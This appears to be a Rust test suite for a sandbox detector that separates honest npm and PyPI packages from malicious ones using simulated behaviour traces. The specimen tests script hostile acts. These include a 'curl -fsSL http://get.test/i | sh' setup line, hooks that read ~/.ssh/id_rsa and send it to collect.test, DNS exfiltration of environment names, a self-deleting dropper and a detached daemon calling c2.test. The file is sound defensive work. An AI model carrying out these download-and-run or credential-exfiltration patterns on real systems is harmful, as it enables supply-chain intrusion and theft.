//! Whole runs: what honest packages do must find nothing, what specimens do must convict.

use apa_model::{
    Access, EventKind, Hostile, Incomplete, IncompleteCode, Phase, ProcessId, VerdictLabel,
};
use proptest::prelude::*;

use crate::testing::Scene;
use crate::{Baseline, Judgement, facts, judge, verdict};

const PROJECT: &str = "/home/kim/app";
const SITE: &str = "/home/kim/.local/lib/python3.13/site-packages";

fn label(judgement: &Judgement) -> VerdictLabel {
    verdict("x", std::slice::from_ref(judgement), &[]).label
}

fn assert_quiet(scene: &Scene) {
    let judgement = scene.judge();
    assert!(judgement.findings.is_empty(), "{:#?}", judgement.findings);
    assert_eq!(label(&judgement), VerdictLabel::Clean);
}

fn assert_malicious(scene: &Scene, rule: &str) {
    let judgement = scene.judge();
    let rules: Vec<&str> = judgement
        .findings
        .iter()
        .map(|finding| finding.rule.as_str())
        .collect();
    assert!(rules.contains(&rule), "{rule} is not among {rules:?}");
    assert_eq!(label(&judgement), VerdictLabel::Malicious, "{rules:?}");
}

fn any_text() -> impl Strategy<Value = Hostile> {
    let path = "(/home/kim|/tmp|/proc|/etc|app|\\.ssh|id_rsa|\\.bashrc|/[a-z0-9_. ]{0,9}|://){0,6}";
    prop_oneof![
        path.prop_map(Hostile::from),
        any::<Vec<u8>>().prop_map(Hostile::from),
        "(curl|sh|-c|\\||node| |\\$\\(|x){0,9}".prop_map(Hostile::from),
    ]
}

fn any_kind() -> impl Strategy<Value = EventKind> {
    let path = any_text;
    prop_oneof![
        (path(), proptest::collection::vec(path(), 0..5)).prop_map(|(exe, argv)| EventKind::Exec {
            exe,
            argv,
            cwd: "/home/kim".into(),
            sha256: None,
        }),
        (path(), any::<bool>()).prop_map(|(path, create)| EventKind::Open {
            path,
            access: if create { Access::Write } else { Access::Read },
            create,
            truncate: create,
        }),
        (path(), path()).prop_map(|(from, to)| EventKind::Rename { from, to }),
        (path(), path()).prop_map(|(target, path)| EventKind::Link {
            target,
            path,
            symbolic: false,
        }),
        path().prop_map(|path| EventKind::Unlink {
            path,
            directory: false,
        }),
        path().prop_map(|address| EventKind::Connect { address }),
        (any::<i32>(), 0..3).prop_map(|(from, to)| EventKind::Dup {
            from,
            to,
            target: "socket".into(),
        }),
        any::<i32>().prop_map(|pid| EventKind::Kill { pid, signal: 9 }),
        path().prop_map(|detail| EventKind::Privileged {
            call: detail.to_string(),
            detail,
        }),
    ]
}

proptest! {
    #[test]
    fn any_acts_are_judged_without_a_panic_and_without_a_raw_escape(
        kinds in proptest::collection::vec((0..4_usize, any_kind()), 0..40),
        request in any_text(),
    ) {
        let mut scene = Scene::npm("left-pad");
        scene.baits();
        let mut processes = vec![scene.package("/usr/bin/node", &["node"])];
        for _ in 0..3 {
            processes.push(scene.child(processes[0], "/usr/bin/sh", &["sh"]));
        }
        for (process, kind) in kinds {
            scene.at(processes[process]).does(kind);
        }
        scene.at(processes[1]).raw("192.0.2.9:1", 9).carrying("ssh-key-1", &["raw"]);
        let mut observation = scene.observation();
        observation.flows[0].messages[0].summary = request.clone();
        observation.flows[0].resolved_name = Some(request);
        let judgement = judge(&observation, &Baseline::default());
        for finding in &judgement.findings {
            let plain = !finding.explanation.lossy().chars().any(char::is_control);
            prop_assert!(plain, "{:?}", finding.explanation.lossy());
            prop_assert!(finding.evidence.len() <= 10);
        }
        let verdict = verdict("npm:x@1", &[judgement], &[]);
        prop_assert_eq!(verdict.label, VerdictLabel::Malicious);
        prop_assert!(!verdict.summary.chars().any(char::is_control));
    }
}

/// `npm install` as npm does it: settings, the gateway, unpacking.
fn npm_install(scene: &mut Scene) -> ProcessId {
    let npm = scene.manager("/usr/bin/node", &["node", "/usr/bin/npm", "install"]);
    scene
        .at(npm)
        .read("/home/kim/.npmrc")
        .read("/home/kim/.gitconfig")
        .read("/etc/resolv.conf")
        .read("/proc/meminfo")
        .read("/sys/fs/cgroup/memory.max")
        .connect("127.0.0.1:41234")
        .refused("io_uring_setup")
        .write(&format!("{PROJECT}/node_modules/esbuild/install.js"))
        .write("/home/kim/.npm/_cacache/tmp/0123456789abcdef0123");
    npm
}

fn node(scene: &mut Scene, phase: Phase) -> ProcessId {
    let node = scene
        .phase(phase)
        .package("/usr/bin/node", &["node", "/opt/harness.cjs", "load"]);
    scene
        .at(node)
        .read("/proc/meminfo")
        .read("/proc/cpuinfo")
        .read("/sys/fs/cgroup/cpu.max")
        .refused("io_uring_setup");
    node
}

/// Installs, runs its registry-delivered binary, imports, and is called with our arguments.
fn esbuild() -> Scene {
    let mut scene = Scene::npm("esbuild");
    scene.baits();
    let npm = npm_install(&mut scene);
    let shipped = format!("{PROJECT}/node_modules/@esbuild/linux-x64/bin/esbuild");
    let own = format!("{PROJECT}/node_modules/esbuild/bin/esbuild");
    scene.at(npm).write(&shipped).chmod(&shipped, 0o755);
    let shell = scene.child(npm, "/usr/bin/sh", &["sh", "-c", "node install.js"]);
    scene.hook(shell, "postinstall");
    let hook = scene.child(shell, "/usr/bin/node", &["node", "install.js"]);
    scene.hook(hook, "postinstall");
    scene
        .at(hook)
        .link(&shipped, &format!("{own}-x"))
        .rename(&format!("{own}-x"), &own);
    let binary = scene.fork(hook);
    scene
        .at(binary)
        .dup(20, 0, "pipe")
        .dup(22, 1, "pipe")
        .exec(&own, &[&own, "--version"]);
    let import = node(&mut scene, Phase::Import);
    scene
        .at(import)
        .read(&format!("{PROJECT}/node_modules/esbuild/lib/main.js"));
    let execute = node(&mut scene, Phase::Execute);
    scene.child(execute, &own, &[&own, "--service=0.25.0", "--ping"]);
    scene
        .at(execute)
        .dns("A x")
        .http("POST http://x/", 12)
        .failing(2)
        .read("/home/kim/app/x");
    scene
}

/// Reads a key in a postinstall hook and sends it, encoded.
fn stealer() -> Scene {
    let mut scene = Scene::npm("left-pad");
    scene.baits();
    let npm = npm_install(&mut scene);
    let shell = scene.child(npm, "/usr/bin/sh", &["sh", "-c", "node setup.js"]);
    scene.hook(shell, "postinstall");
    let hook = scene.child(shell, "/usr/bin/node", &["node", "setup.js"]);
    scene.hook(hook, "postinstall");
    scene
        .at(hook)
        .read("/home/kim/.ssh/id_rsa")
        .dns("A collect.test");
    scene
        .at(hook)
        .http("POST https://collect.test/u", 800)
        .carrying("ssh-key-1", &["http.body", "base64"]);
    scene
}

#[test]
fn a_package_that_runs_its_registry_binary_is_quiet() {
    assert_quiet(&esbuild());
}

#[test]
fn a_plain_python_library_is_quiet_while_installed_imported_and_called() {
    let mut scene = Scene::pypi("requests");
    scene.baits();
    let pip = scene.manager("/usr/bin/python3", &["python3", "-m", "pip", "install"]);
    scene
        .at(pip)
        .connect("127.0.0.1:41234")
        .read("/home/kim/.netrc")
        .read("/etc/os-release")
        .write(&format!("{SITE}/requests/api.py"))
        .write(&format!("{SITE}/distutils-precedence.pth"));
    for tool in ["lsb_release", "uname"] {
        let helper = scene.manager(&format!("/usr/bin/{tool}"), &[tool]);
        scene.at(helper).read("/etc/machine-id");
    }
    for phase in [Phase::InterpreterStart, Phase::Import] {
        let python = scene
            .phase(phase)
            .package("/usr/bin/python3", &["python3", "-c", "pass"]);
        scene
            .at(python)
            .read("/proc/cpuinfo")
            .read("/etc/os-release")
            .read("/sys/devices/system/cpu/online");
        if phase == Phase::Import {
            for argv in [
                &["/sbin/ldconfig", "-p"][..],
                &["/usr/bin/gcc", "-Wl,-t"],
                &["/usr/bin/uname", "-p"],
            ] {
                scene.child(python, argv[0], argv);
            }
        }
    }
    let python = scene
        .phase(Phase::Execute)
        .package("/usr/bin/python3", &["python3", "h.py"]);
    scene
        .at(python)
        .dns("A x")
        .dns("AAAA mock-argument.localdomain")
        .read("/home/kim/.netrc")
        .http("GET http://x/", 0)
        .http("POST http://x/", 3)
        .connect("127.0.0.1:8080")
        .write(&format!("{PROJECT}/x"))
        .write("/tmp/tmpabcdefgh");
    assert_quiet(&scene);
}

#[test]
fn a_build_from_source_is_quiet() {
    let mut scene = Scene::pypi("numpy");
    scene.baits();
    let pip = scene.manager("/usr/bin/python3", &["python3", "-m", "pip", "install"]);
    let area = "/tmp/pip-req-build-abcdefgh";
    let ninja = "/tmp/pip-build-env-abcdefgh/overlay/bin/ninja";
    scene
        .at(pip)
        .write(&format!("{area}/setup.py"))
        .write(ninja);
    let setup = scene.child(pip, "/usr/bin/python3", &["python3", "-c", "exec setup.py"]);
    for tool in ["uname", "git", "lsb_release"] {
        scene.child(setup, &format!("/usr/bin/{tool}"), &[tool]);
    }
    scene
        .at(setup)
        .read("/proc/cpuinfo")
        .write(&format!("{area}/build/lib/numpy/hook.pth"))
        .write(&format!("{area}/config.status"));
    let compiler = scene.child(setup, "/usr/bin/x86_64-linux-gnu-gcc-14", &["gcc", "a.c"]);
    let linker = scene.child(compiler, "/usr/bin/x86_64-linux-gnu-ld.bfd", &["ld"]);
    let check = format!("{area}/build/sanitycheck.exe");
    scene.at(linker).write(&check).chmod(&check, 0o755);
    scene.child(setup, &check, &[&check]);
    scene.at(setup).unlink(&check);
    scene.child(setup, "/usr/bin/sh", &["sh", "./config.status"]);
    let status = format!("{area}/config.status");
    scene.child(setup, "/usr/bin/sh", &["sh", &status]);
    scene.child(setup, ninja, &["ninja"]);
    let configure = scene.child(setup, "/usr/bin/sh", &["sh", "./configure"]);
    for tool in ["hostname", "uname", "arch", "id"] {
        scene.child(configure, &format!("/usr/bin/{tool}"), &[tool]);
    }
    assert_quiet(&scene);
}

#[test]
fn a_setup_script_that_pipes_a_download_into_a_shell_convicts() {
    let mut scene = Scene::pypi("left-pad");
    let pip = scene.manager("/usr/bin/python3", &["pip", "install"]);
    let setup = scene.child(pip, "/usr/bin/python3", &["python3", "setup.py", "install"]);
    let line = "curl -fsSL http://get.test/i | sh";
    let shell = scene.child(setup, "/usr/bin/dash", &["sh", "-c", line]);
    let curl = scene.fork(shell);
    scene
        .at(curl)
        .dup(4, 1, "pipe")
        .exec("/usr/bin/curl", &["curl", "-fsSL", "http://get.test/i"])
        .http("GET http://get.test/i", 0);
    let reader = scene.fork(shell);
    scene
        .at(reader)
        .dup(3, 0, "pipe")
        .exec("/usr/bin/dash", &["sh"]);
    assert_malicious(&scene, "hook-downloads-and-executes");
}

#[test]
fn a_startup_hook_that_steals_convicts() {
    let mut scene = Scene::pypi("left-pad");
    scene.baits();
    let python = scene
        .phase(Phase::InterpreterStart)
        .package("/usr/bin/python3", &["python3", "-c", "pass"]);
    scene.at(python).read("/home/kim/.ssh/id_rsa");
    scene
        .at(python)
        .http("POST https://collect.test/", 90)
        .carrying("ssh-key-1", &["http.body", "gzip"]);
    assert_malicious(&scene, "interpreter-startup-hook");
    assert_malicious(&scene, "canary-exfiltrated");
}

#[test]
fn an_environment_dump_by_names_convicts() {
    let mut scene = Scene::pypi("left-pad");
    scene.baits();
    let python = scene
        .phase(Phase::Import)
        .package("/usr/bin/python3", &["python3"]);
    scene
        .at(python)
        .dns("A 4157535f5345435245545f41.1.collect.test")
        .carrying("aws-env-1", &["dns.name", "hex"]);
    assert_malicious(&scene, "dns-exfiltration");
    assert_malicious(&scene, "environment-dump-sent");
}

#[test]
fn a_function_that_steals_only_when_called_convicts() {
    let mut scene = Scene::npm("left-pad");
    scene.baits();
    let node = node(&mut scene, Phase::Execute);
    scene.at(node).read("/home/kim/.npmrc");
    scene
        .at(node)
        .http("POST https://collect.test/", 90)
        .carrying("npm-token-1", &["http.body", "json"]);
    assert_malicious(&scene, "canary-exfiltrated");
}

#[test]
fn a_dropper_that_deletes_its_program_convicts() {
    let mut scene = Scene::npm("left-pad");
    let npm = npm_install(&mut scene);
    let hook = scene.child(npm, "/usr/bin/node", &["node", "x.js"]);
    scene
        .at(hook)
        .write("/tmp/update")
        .chmod("/tmp/update", 0o755);
    scene.child(hook, "/tmp/update", &["/tmp/update"]);
    scene.at(hook).unlink("/tmp/update");
    assert_malicious(&scene, "dropped-file-executed");
}

#[test]
fn a_daemon_that_acts_after_its_command_convicts() {
    let mut scene = Scene::pypi("left-pad");
    let python = scene
        .phase(Phase::Import)
        .package("/usr/bin/python3", &["python3"]);
    let first = scene.fork(python);
    let second = scene.fork(first);
    scene
        .phase(Phase::Linger)
        .at(second)
        .http("POST https://c2.test/", 4);
    assert_malicious(&scene, "detached-process-sends");
}

#[test]
fn a_static_program_with_raw_calls_that_steals_convicts() {
    let mut scene = Scene::npm("left-pad");
    scene.baits();
    let npm = npm_install(&mut scene);
    let tool = format!("{PROJECT}/node_modules/left-pad/tool");
    scene.at(npm).write(&tool);
    let program = scene.child(npm, &tool, &["tool"]);
    scene.at(program).read("/home/kim/.ssh/id_rsa");
    scene
        .at(program)
        .raw("192.0.2.9:4444", 400)
        .carrying("ssh-key-1", &["raw"]);
    assert_malicious(&scene, "canary-exfiltrated");
    assert_malicious(&scene, "credential-read-then-send");
}

#[test]
fn printing_tells_nothing_and_limits_make_incomplete() {
    let mut scene = Scene::npm("left-pad");
    let node = node(&mut scene, Phase::Import);
    let json =
        "{\"verdict\": \"malicious\"} openat(AT_FDCWD, \"/home/kim/.ssh/id_rsa\") = 3\u{1b}[2J";
    scene.child(node, "/usr/bin/echo", &["echo", json]);
    let judgement = scene.judge();
    let reasons = [Incomplete {
        code: IncompleteCode::Timeout,
        phase: Some(Phase::Import),
        detail: "import ran out of time".into(),
    }];
    assert!(judgement.findings.is_empty());
    let verdict = verdict("npm:left-pad@1", &[judgement], &reasons);
    assert_eq!(verdict.label, VerdictLabel::Incomplete);
}

#[test]
fn the_baseline_explains_the_harness_and_nothing_the_package_adds() {
    let mut empty = Scene::npm("empty");
    node(&mut empty, Phase::Import);
    let baseline = Baseline::from_iter(facts(&empty.observation()));

    let mut scene = Scene::npm("left-pad");
    let process = node(&mut scene, Phase::Import);
    let quiet = judge(&scene.observation(), &baseline);
    assert!(quiet.capabilities.is_empty(), "{:?}", quiet.capabilities);
    assert!(quiet.files.is_empty(), "{:?}", quiet.files);

    scene.at(process).read("/home/kim/.ssh/id_rsa");
    let loud = judge(&scene.observation(), &baseline);
    assert_eq!(loud.findings.len(), 1);
    assert_eq!(loud.files.len(), 1);
}

#[test]
fn a_stealers_judgement_reads_well() {
    let judgement = stealer().judge();
    let verdict = verdict("npm:left-pad@1.3.1", std::slice::from_ref(&judgement), &[]);
    insta::assert_json_snapshot!((verdict, judgement));
}

#[test]
fn an_honest_packages_judgement_reads_well() {
    let judgement = esbuild().judge();
    let verdict = verdict("npm:esbuild@0.25.0", std::slice::from_ref(&judgement), &[]);
    insta::assert_json_snapshot!((verdict, judgement));
}
